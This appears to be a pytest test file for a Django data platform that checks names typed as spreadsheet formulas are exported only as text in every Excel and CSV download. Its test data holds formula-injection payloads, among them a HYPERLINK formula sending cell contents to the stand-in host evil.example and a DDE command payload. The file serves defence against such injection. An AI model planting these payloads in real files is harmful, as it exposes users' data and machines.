"""Issue 16: a name typed as a formula is imported by an estate manager and then every
Excel and CSV file the platform hands out shows it as text, never as a live formula."""

import csv
import hashlib
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from rasad.iran.ids import legal_id_check_digit
from rasad.platform.accounts.models import Role, User
from rasad.platform.registry.models import Enterprise, IndustrialEstate, Province

# the formula file's firm names (issue 16, "Done when")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "@SUM(1)",
    "\t=1+1",
    "-2+3",
]
# as stored: the importer trims the blanks around a name ("\t=1+1" is stored as "=1+1")
STORED = [name.strip() for name in FORMULAS]
ESTATE_NAME = '=HYPERLINK("http://evil.example/","estate")'


def national_ids(n: int) -> list[str]:
    ids = [f"1440{i:06d}" for i in range(123451, 123451 + n)]
    return [first + str(legal_id_check_digit(first)) for first in ids]


IDS = national_ids(len(FORMULAS))


def csv_field(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def formula_file() -> bytes:
    header = [
        "شناسه ملی",
        "نام بنگاه",
        "کد آیسیک",
        "استان",
        "شهرک صنعتی",
        "دوره",
        "تعداد شاغلان",
        "فروش (میلیون ریال)",
    ]
    rows = [header] + [
        [nid, name, "1311", "یزد", "T01", "1403", str(10 + i), "1200"]
        for i, (nid, name) in enumerate(zip(IDS, FORMULAS, strict=True))
    ]
    return "\r\n".join(",".join(csv_field(v) for v in row) for row in rows).encode("utf-8-sig")


@pytest.fixture(autouse=True)
def var_dir(settings, tmp_path):
    settings.VAR_DIR = tmp_path / "var"
    settings.MEDIA_ROOT = tmp_path / "var" / "media"
    return tmp_path / "var"


@pytest.fixture
def estate(db):
    yazd = Province.objects.get(name_en="Yazd")
    return IndustrialEstate.objects.create(
        code="T01", name_fa=ESTATE_NAME, name_en=ESTATE_NAME, province=yazd
    )


@pytest.fixture
def manager(estate):
    user = User.objects.create(username="manager", role=Role.ESTATE_MANAGER)
    user.estates.set([estate])
    return user


def workbook_texts(content: bytes) -> list:
    """Every cell of every sheet; fails on any formula cell."""
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value is not None:
                    cells.append(cell)
    return cells


def assert_names_are_text(content: bytes, names) -> None:
    cells = workbook_texts(content)
    shown = {c.value for c in cells if isinstance(c.value, str)}
    for name in names:
        assert name in shown, name  # the text shown equals the name
    for cell in cells:
        if cell.value in names:
            assert cell.data_type == "s" and cell.quotePrefix


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_imported_formula_names_stay_text_in_every_download(client, manager, estate):
    client.force_login(manager)
    data = formula_file()
    sha = hashlib.sha256(data).hexdigest()
    response = client.post("/import/", {"file": SimpleUploadedFile("formulas.csv", data)})
    assert response.status_code == 302

    # the dry run's report, with its preview of what would be imported
    response = client.get(f"/import/{sha}/report.xlsx")
    assert response.status_code == 200
    assert_names_are_text(body(response), STORED)

    client.post(f"/import/{sha}/commit/")
    assert sorted(Enterprise.objects.values_list("name_fa", flat=True)) == sorted(STORED)

    # the estate dashboard's export: firm and estate names
    response = client.get("/estates/export.xlsx")
    assert response.status_code == 200
    assert_names_are_text(body(response), [*STORED, ESTATE_NAME])

    # the needs workbook: the estate's name labels its row of the matrix
    response = client.get("/monitoring/needs/export.xlsx")
    assert response.status_code == 200
    assert_names_are_text(body(response), [ESTATE_NAME])

    # the intake template lists the estate
    response = client.get("/import/template.xlsx")
    assert response.status_code == 200
    assert any(ESTATE_NAME in str(c.value) for c in workbook_texts(body(response)))
    response = client.get("/import/template.csv")
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_a_formula_in_a_refused_value_stays_text_in_the_report(client, manager):
    """A blocking report shows the offending value: a formula typed as a national ID too."""
    client.force_login(manager)
    header = "شناسه ملی,نام بنگاه,کد آیسیک,استان,شهرک صنعتی,دوره,تعداد شاغلان\r\n"
    data = (
        header + f"{csv_field(FORMULAS[1])},نام,1311,یزد,T01,1403,{csv_field(FORMULAS[2])}\r\n"
    ).encode("utf-8")
    sha = hashlib.sha256(data).hexdigest()
    client.post("/import/", {"file": SimpleUploadedFile("bad.csv", data)})
    response = client.get(f"/import/{sha}/report.xlsx")
    assert response.status_code == 200
    assert_names_are_text(body(response), [FORMULAS[1], FORMULAS[2]])
